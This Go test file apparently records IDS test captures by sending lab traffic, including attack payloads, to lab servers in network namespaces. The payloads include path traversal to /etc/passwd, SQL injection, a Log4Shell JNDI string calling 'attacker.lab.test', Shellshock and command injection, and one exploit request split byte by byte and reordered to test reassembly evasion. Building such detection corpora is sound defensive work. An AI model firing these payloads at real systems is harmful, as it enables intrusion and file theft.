package ids_test

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/gopacket/gopacket"
	"github.com/gopacket/gopacket/layers"
	"github.com/gopacket/gopacket/pcapgo"
	"golang.org/x/crypto/ssh"

	"github.com/bulkhead/bulkhead/internal/lab/apps"
	"github.com/bulkhead/bulkhead/internal/netlab"
)

// The captures' addresses: a client where the lab's shopper1 is and a
// server where web1 is, so that the corpus's $HOME_NET reads like the lab's.
var (
	recClientIP = netip.MustParseAddr("10.77.7.10")
	recServerIP = netip.MustParseAddr("10.77.1.10")
)

// TestRecordCaptures records internal/ids/testdata/captures/*.pcap from real
// servers (the lab applications) and real clients (curl, dig, ssh, ping, Go
// clients for the binary protocol and the segmented requests) in network
// namespaces. It is not part of CI: the captures are checked in, and the
// golden files were written for them by hand.
//
//	sudo BULKHEAD_RECORD_CAPTURES=1 go test ./internal/ids -run TestRecordCaptures -v
//
// Every client binds a fixed source port, so the golden files can name
// both ends of each flow.
func TestRecordCaptures(t *testing.T) {
	if os.Getenv("BULKHEAD_RECORD_CAPTURES") != "1" {
		t.Skip("records the corpus captures; set BULKHEAD_RECORD_CAPTURES=1 (root, curl, dig, ssh, socat, ping, tcpdump, tc)")
	}
	if os.Geteuid() != 0 {
		t.Skip("recording captures needs root (network namespaces, tcpdump)")
	}
	for _, tool := range []string{"tcpdump", "curl", "dig", "ssh", "socat", "ping", "tc"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("recording captures needs %s: %v", tool, err)
		}
	}
	topo, err := netlab.New(netlab.TestPrefix())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := topo.Close(); err != nil {
			t.Errorf("close topology: %v", err)
		}
	})
	hv, err := topo.AddHost("hv1")
	if err != nil {
		t.Fatal(err)
	}
	client, err := topo.AddWorkload(hv, netlab.WorkloadConfig{Name: "client", IPv4: recClientIP})
	if err != nil {
		t.Fatal(err)
	}
	server, err := topo.AddWorkload(hv, netlab.WorkloadConfig{Name: "server", IPv4: recServerIP})
	if err != nil {
		t.Fatal(err)
	}
	// One write, one segment: without this the kernel corks tiny writes
	// while an earlier one is still queued.
	if err := client.NS.Sysctl("net.ipv4.tcp_autocorking", "0"); err != nil {
		t.Fatal(err)
	}
	startRecServers(t, server)
	if _, err := server.Serve(9000); err != nil { // TCP greeting+echo, UDP echo
		t.Fatal(err)
	}
	if _, err := server.Serve(9001); err != nil {
		t.Fatal(err)
	}

	dir := filepath.Join("testdata", "captures")
	if d := os.Getenv("BULKHEAD_RECORD_DIR"); d != "" {
		dir = d
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	srv := recServerIP.String()
	curl := func(port int, args ...string) {
		t.Helper()
		a := append([]string{"-sS", "-o", "/dev/null", "-w", "%{http_code}\n", "--max-time", "5",
			"--local-port", fmt.Sprint(port)}, args...)
		out, err := client.NS.Exec(ctx, "curl", a...)
		t.Logf("curl %s: %s %v", strings.Join(args, " "), strings.TrimSpace(string(out)), err)
	}
	web := "http://" + srv

	record(t, server, filepath.Join(dir, "http.pcap"), func() {
		const firefox = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
		curl(40001, "-A", firefox, web+"/")
		curl(40002, "-A", firefox, "--path-as-is", web+"/static/../../../../etc/passwd")
		curl(40003, "-A", firefox, web+"/search?q=%27%20OR%201%3D1--")
		curl(40004, "-A", firefox, web+"/product?id=1%20UNION%20SELECT%20username,password%20FROM%20users--")
		curl(40005, "-A", "${jndi:ldap://attacker.lab.test:1389/Basic/Command/Base64/aWQ=}", web+"/")
		curl(40006, "-A", firefox, "-H", "Referer: () { :; }; /bin/cat /etc/passwd", web+"/cgi-bin/status")
		curl(40007, "-A", firefox, "-d", "user=admin&password=x;cat /etc/passwd", web+"/login")
		curl(40008, "-A", "sqlmap/1.7.2#stable (https://sqlmap.org)", web+"/index.php?id=1")
		curl(40009, "-A", firefox, "-H", "Host: ADMIN.internal.test:8080", web+"/")
		for i := range 5 {
			curl(40010+i, "-A", "BHScanner/1.0", web+fmt.Sprintf("/probe/%d", i))
		}
		curl(40015, "-A", "BHTrusted-Backup/1.0", "--path-as-is", web+"/static/../../etc/passwd")
		curl(40016, "-A", firefox, web+"/search?q=union%20all%20of%20us")
		curl(40017, "-A", firefox, "-X", "PUT", "-d", "x;cat /etc/passwd", web+"/upload")
		curl(40018, "-A", firefox, "-d", "user=admin", web+"/login")
	})

	// The exploit request, one byte per segment.
	segReq := "GET /static/../../../../etc/passwd HTTP/1.1\r\nHost: www.lab.test\r\n" +
		"User-Agent: ${jndi:ldap://attacker.lab.test:1389/a}\r\nAccept: */*\r\nConnection: close\r\n\r\n"
	record(t, server, filepath.Join(dir, "segmented.pcap"), func() {
		segmented(t, client, 41001, netip.AddrPortFrom(recServerIP, 80), segReq)
	})
	// The same out of order. netem would delay some segments at random
	// where the kernel has it (sch_netem); else the recorded segments are
	// rearranged: reordered, retransmitted and overlapped.
	reorderedPort := 41001
	if out, err := client.NS.Exec(ctx, "tc", "qdisc", "add", "dev", "eth0", "root", "netem", "delay", "15ms", "reorder", "30%", "50%"); err != nil {
		t.Logf("netem is not available (%v): reordered.pcap is segmented.pcap rearranged", strings.TrimSpace(string(out)))
		rearrange(t, filepath.Join(dir, "segmented.pcap"), filepath.Join(dir, "reordered.pcap"), 41001)
	} else {
		reorderedPort = 41002
		record(t, server, filepath.Join(dir, "reordered.pcap"), func() {
			segmented(t, client, reorderedPort, netip.AddrPortFrom(recServerIP, 80), segReq)
		})
		client.NS.Exec(ctx, "tc", "qdisc", "del", "dev", "eth0", "root")
	}
	n, total := outOfOrder(t, filepath.Join(dir, "reordered.pcap"), recClientIP, reorderedPort)
	t.Logf("reordered.pcap: %d of %d client data segments arrived after a later one", n, total)
	if n == 0 {
		t.Errorf("reordered.pcap: nothing out of order")
	}

	record(t, server, filepath.Join(dir, "tls.pcap"), func() {
		curl(42001, "-k", "--tlsv1.0", "--tls-max", "1.0", "--ciphers", "DEFAULT@SECLEVEL=0",
			"--resolve", "legacy.lab.test:443:"+srv, "https://legacy.lab.test/")
		curl(42002, "-k", "--tlsv1.2", "--resolve", "www.lab.test:443:"+srv, "https://www.lab.test/")
	})

	record(t, server, filepath.Join(dir, "dns.pcap"), func() {
		for i, name := range []string{"evil-c2.badness.test", "www.lab.test"} {
			out, err := client.NS.Exec(ctx, "dig", "+tries=1", "+time=2", "-b", fmt.Sprintf("%s#%d", recClientIP, 43001+i), "@"+srv, name, "A")
			t.Logf("dig %s: %v\n%s", name, err, out)
		}
	})

	record(t, server, filepath.Join(dir, "ssh.pcap"), func() {
		sshVersion(t, client, 44001, "SSH-2.0-libssh_0.9.6")
		out, err := client.NS.Exec(ctx, "ssh", "-v", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no",
			"-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=5",
			"-o", "ProxyCommand=socat - TCP:%h:%p,sourceport=44002", "admin@"+srv, "true")
		t.Logf("ssh -v: %v\n%s", err, lastLines(string(out), 5))
	})

	record(t, server, filepath.Join(dir, "binary.pcap"), func() {
		bhp(t, client, 45001, []string{"HELO v1", "CMD1 list", "BYE!", "CMD1 list"})
		bhp(t, client, 45002, []string{"CMD1 list"})
		udp(t, client, 45101, [][]byte{
			[]byte("BHPIabcd"),
			[]byte("BHPI" + strings.Repeat("z", 20)),
			append([]byte("BHPU"), make([]byte, 196)...),
			append([]byte("BHPU"), make([]byte, 46)...),
			append([]byte("BHPL\x08\x00"), make([]byte, 8)...),
			append([]byte("BHPL\x00\x10"), make([]byte, 8)...),
			[]byte("BHPJ\x00\x04xxxxEXEC"),
			[]byte("BHPJ\x00\x08EXECxxxxNOPE"),
			[]byte("BHPS hello"),
		})
	})

	record(t, server, filepath.Join(dir, "icmp.pcap"), func() {
		for _, p := range []string{"deadbeef", "424849504d41524b"} { // the second is "BHIPMARK"
			n := "3"
			if p != "deadbeef" {
				n = "1"
			}
			out, err := client.NS.Exec(ctx, "ping", "-n", "-c", n, "-i", "0.2", "-p", p, srv)
			t.Logf("ping -p %s: %v %s", p, err, lastLines(string(out), 2))
		}
	})
}

// startRecServers runs the lab's web (HTTP, and HTTPS accepting TLS
// 1.0-1.3), DNS and SSH servers in the workload's namespace until the test
// ends.
func startRecServers(t *testing.T, w *netlab.Workload) {
	t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	ready := make(chan string, 8)
	env := func() apps.Env {
		return apps.Env{Bind: w.IPv4.String(), Ready: func(network string, a net.Addr) { ready <- network + " " + a.String() }}
	}
	httpCfg := apps.HTTPConfig{Env: env(), Port: 80}
	httpCfg.SetDefaults()
	httpsCfg := apps.HTTPSConfig{HTTPConfig: apps.HTTPConfig{Env: env(), Port: 443},
		TLSRange: apps.TLSRange{MinTLS: "1.0", MaxTLS: "1.3"}, KeyType: "rsa",
		Names: []string{"www.lab.test", "legacy.lab.test", w.IPv4.String()}}
	httpsCfg.SetDefaults()
	dnsCfg := apps.DNSConfig{Env: env(), Port: 53, Zones: []apps.Zone{{Name: "lab.test",
		Records: []apps.Record{{Name: "www", A: []string{w.IPv4.String()}}}}}}
	sshCfg := apps.SSHConfig{Env: env(), Port: 22, Users: map[string]string{"admin": "lab-admin-pw"}}
	sshCfg.SetDefaults()
	runs := []func(context.Context) error{
		func(ctx context.Context) error { return apps.RunHTTP(ctx, httpCfg) },
		func(ctx context.Context) error { return apps.RunHTTPS(ctx, httpsCfg) },
		func(ctx context.Context) error { return apps.RunDNS(ctx, dnsCfg) },
		func(ctx context.Context) error { return apps.RunSSH(ctx, sshCfg) },
	}
	done := make(chan error, len(runs))
	for _, run := range runs {
		// Do holds a thread in the namespace for as long as the server
		// runs: its listeners are made there.
		go func() { done <- w.NS.Do(func() error { return run(ctx) }) }()
	}
	t.Cleanup(func() {
		cancel()
		for range runs {
			select {
			case err := <-done:
				if err != nil {
					t.Errorf("server: %v", err)
				}
			case <-time.After(5 * time.Second):
				t.Errorf("a server did not stop within 5s")
			}
		}
	})
	want := 5 // DNS listens on UDP and TCP
	for i := 0; i < want; i++ {
		select {
		case r := <-ready:
			t.Logf("server ready: %s", r)
		case err := <-done:
			t.Fatalf("server stopped at once: %v", err)
		case <-time.After(10 * time.Second):
			t.Fatalf("servers not ready within 10s")
		}
	}
}

// record runs tcpdump on the workload's eth0 for the client's traffic
// while fn runs, into path.
func record(t *testing.T, w *netlab.Workload, path string, fn func()) {
	t.Helper()
	cmd := exec.Command("ip", "netns", "exec", w.NS.Name, "tcpdump", "-i", "eth0", "-n", "-U", "--immediate-mode", "-s", "0",
		"-w", path, "host", recClientIP.String())
	stderr, err := cmd.StderrPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatalf("tcpdump: %v", err)
	}
	sc := bufio.NewScanner(stderr)
	listening := make(chan bool, 1)
	var errText strings.Builder
	go func() {
		ok := false
		for sc.Scan() {
			errText.WriteString(sc.Text() + "\n")
			if !ok && strings.Contains(sc.Text(), "listening on") {
				ok = true
				listening <- true
			}
		}
		if !ok {
			listening <- false
		}
	}()
	select {
	case ok := <-listening:
		if !ok {
			cmd.Wait()
			t.Fatalf("tcpdump did not start: %s", errText.String())
		}
	case <-time.After(10 * time.Second):
		cmd.Process.Kill()
		t.Fatalf("tcpdump did not start within 10s")
	}
	fn()
	time.Sleep(time.Second) // the last FIN/ACKs
	cmd.Process.Signal(os.Interrupt)
	cmd.Wait()
	st, err := os.Stat(path)
	if err != nil {
		t.Fatalf("capture %s: %v", path, err)
	}
	t.Logf("recorded %s: %d bytes", path, st.Size())
}

// dialFrom connects from the workload, from a fixed source port.
func dialFrom(t *testing.T, w *netlab.Workload, network string, port int, dst netip.AddrPort) net.Conn {
	t.Helper()
	var c net.Conn
	err := w.NS.Do(func() error {
		d := net.Dialer{Timeout: 5 * time.Second}
		switch network {
		case "tcp":
			d.LocalAddr = &net.TCPAddr{IP: w.IPv4.AsSlice(), Port: port}
		default:
			d.LocalAddr = &net.UDPAddr{IP: w.IPv4.AsSlice(), Port: port}
		}
		var err error
		c, err = d.Dial(network, dst.String())
		return err
	})
	if err != nil {
		t.Fatalf("dial %s %s from port %d: %v", network, dst, port, err)
	}
	return c
}

// segmented writes req one byte per segment (TCP_NODELAY, a pause between
// writes), then reads the answer.
func segmented(t *testing.T, w *netlab.Workload, port int, dst netip.AddrPort, req string) {
	t.Helper()
	c := dialFrom(t, w, "tcp", port, dst)
	defer c.Close()
	c.(*net.TCPConn).SetNoDelay(true)
	for i := range len(req) {
		if _, err := c.Write([]byte{req[i]}); err != nil {
			t.Fatalf("segmented write: %v", err)
		}
		time.Sleep(3 * time.Millisecond)
	}
	c.SetReadDeadline(time.Now().Add(5 * time.Second))
	line, err := bufio.NewReader(c).ReadString('\n')
	t.Logf("segmented request from port %d: %q %v", port, strings.TrimSpace(line), err)
}

// sshVersion opens an SSH connection with the given client version and
// tries a password login (which fails: only the banners matter).
func sshVersion(t *testing.T, w *netlab.Workload, port int, version string) {
	t.Helper()
	c := dialFrom(t, w, "tcp", port, netip.AddrPortFrom(recServerIP, 22))
	cfg := &ssh.ClientConfig{User: "root", Auth: []ssh.AuthMethod{ssh.Password("123456")},
		HostKeyCallback: ssh.InsecureIgnoreHostKey(), ClientVersion: version, Timeout: 5 * time.Second} //nolint:gosec // a capture
	c.SetDeadline(time.Now().Add(5 * time.Second))
	_, _, _, err := ssh.NewClientConn(c, recServerIP.String()+":22", cfg)
	c.Close()
	t.Logf("ssh %s from port %d: %v", version, port, err)
}

// bhp sends messages of a small binary-looking protocol, waiting for the
// echo of each, so that each is its own segment.
func bhp(t *testing.T, w *netlab.Workload, port int, msgs []string) {
	t.Helper()
	c := dialFrom(t, w, "tcp", port, netip.AddrPortFrom(recServerIP, 9000))
	defer c.Close()
	c.SetDeadline(time.Now().Add(5 * time.Second))
	greet := make([]byte, 1)
	if _, err := io.ReadFull(c, greet); err != nil {
		t.Fatalf("bhp greeting: %v", err)
	}
	for _, m := range msgs {
		if _, err := c.Write([]byte(m)); err != nil {
			t.Fatalf("bhp write: %v", err)
		}
		echo := make([]byte, len(m))
		if _, err := io.ReadFull(c, echo); err != nil {
			t.Fatalf("bhp echo: %v", err)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// udp sends each datagram from one socket and waits for its echo.
func udp(t *testing.T, w *netlab.Workload, port int, grams [][]byte) {
	t.Helper()
	c := dialFrom(t, w, "udp", port, netip.AddrPortFrom(recServerIP, 9001))
	defer c.Close()
	buf := make([]byte, 2048)
	for _, g := range grams {
		c.SetDeadline(time.Now().Add(3 * time.Second))
		if _, err := c.Write(g); err != nil {
			t.Fatalf("udp write: %v", err)
		}
		if _, err := c.Read(buf); err != nil {
			t.Fatalf("udp echo: %v", err)
		}
	}
}

// outOfOrder counts the data segments from src:port whose sequence number
// is below one seen before.
func outOfOrder(t *testing.T, path string, src netip.Addr, port int) (n, total int) {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	r, err := pcapgo.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	var maxSeq uint32
	for {
		data, _, err := r.ReadPacketData()
		if err != nil {
			break
		}
		p := gopacket.NewPacket(data, r.LinkType(), gopacket.Default)
		ip, _ := p.Layer(layers.LayerTypeIPv4).(*layers.IPv4)
		tcp, _ := p.Layer(layers.LayerTypeTCP).(*layers.TCP)
		if ip == nil || tcp == nil || len(tcp.Payload) == 0 || int(tcp.SrcPort) != port || !ip.SrcIP.Equal(src.AsSlice()) {
			continue
		}
		total++
		if tcp.Seq < maxSeq {
			n++
		} else {
			maxSeq = tcp.Seq
		}
	}
	return n, total
}

// rearrange writes the packets of in to out with the client's data
// segments from port out of order: each run of five is sent backwards,
// every seventh is sent twice (a retransmission), and every eleventh is
// followed by a two-byte segment overlapping it and the next (same data,
// as a retransmission that coalesced would be). Other packets keep their
// place; timestamps are handed out again in the new order.
func rearrange(t *testing.T, in, out string, port int) {
	t.Helper()
	f, err := os.Open(in)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	r, err := pcapgo.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	type pkt struct {
		ci   gopacket.CaptureInfo
		data []byte
	}
	var pkts []pkt
	var data []int // indexes of the client's data segments
	for {
		b, ci, err := r.ReadPacketData()
		if err != nil {
			break
		}
		p := gopacket.NewPacket(b, r.LinkType(), gopacket.Default)
		if tcp, _ := p.Layer(layers.LayerTypeTCP).(*layers.TCP); tcp != nil && int(tcp.SrcPort) == port && len(tcp.Payload) > 0 {
			data = append(data, len(pkts))
		}
		pkts = append(pkts, pkt{ci, b})
	}
	if len(data) < 20 {
		t.Fatalf("rearrange %s: only %d data segments", in, len(data))
	}
	// The stream's bytes by sequence number, to build overlaps from.
	var segs []*layers.TCP
	for _, i := range data {
		p := gopacket.NewPacket(pkts[i].data, r.LinkType(), gopacket.Default)
		segs = append(segs, p.Layer(layers.LayerTypeTCP).(*layers.TCP))
	}
	overlap := func(k int) []byte {
		p := gopacket.NewPacket(pkts[data[k]].data, r.LinkType(), gopacket.Default)
		eth := p.Layer(layers.LayerTypeEthernet).(*layers.Ethernet)
		ip := p.Layer(layers.LayerTypeIPv4).(*layers.IPv4)
		tcp := *segs[k]
		payload := append(append([]byte{}, segs[k].Payload...), segs[k+1].Payload[0])
		ip.Id += 5000
		tcp.SetNetworkLayerForChecksum(ip)
		buf := gopacket.NewSerializeBuffer()
		err := gopacket.SerializeLayers(buf, gopacket.SerializeOptions{FixLengths: true, ComputeChecksums: true},
			eth, ip, &tcp, gopacket.Payload(payload))
		if err != nil {
			t.Fatal(err)
		}
		return buf.Bytes()
	}
	var order [][]byte
	isData := map[int]int{}
	for k, i := range data {
		isData[i] = k
	}
	for i := 0; i < len(pkts); i++ {
		k, ok := isData[i]
		if !ok {
			order = append(order, pkts[i].data)
			continue
		}
		// A run of up to five data segments, backwards.
		end := min(k+5, len(data))
		for j := end - 1; j >= k; j-- {
			order = append(order, pkts[data[j]].data)
			if j%7 == 0 {
				order = append(order, pkts[data[j]].data)
			}
			if j%11 == 0 && j+1 < len(data) {
				order = append(order, overlap(j))
			}
		}
		// Skip the run's segments and whatever came between them (the
		// server's ACKs), keeping those after the run.
		for ; i < len(pkts) && (i <= data[end-1]); i++ {
			if _, ok := isData[i]; !ok {
				order = append(order, pkts[i].data)
			}
		}
		i--
	}
	o, err := os.Create(out)
	if err != nil {
		t.Fatal(err)
	}
	defer o.Close()
	wr := pcapgo.NewWriter(o)
	if err := wr.WriteFileHeader(65535, r.LinkType()); err != nil {
		t.Fatal(err)
	}
	ts := pkts[0].ci.Timestamp
	for _, b := range order {
		ts = ts.Add(time.Millisecond)
		if err := wr.WritePacket(gopacket.CaptureInfo{Timestamp: ts, CaptureLength: len(b), Length: len(b)}, b); err != nil {
			t.Fatal(err)
		}
	}
	t.Logf("wrote %s: %d packets (from %d)", out, len(order), len(pkts))
}

func lastLines(s string, n int) string {
	lines := strings.Split(strings.TrimSpace(s), "\n")
	if len(lines) > n {
		lines = lines[len(lines)-n:]
	}
	return strings.Join(lines, "\n")
}
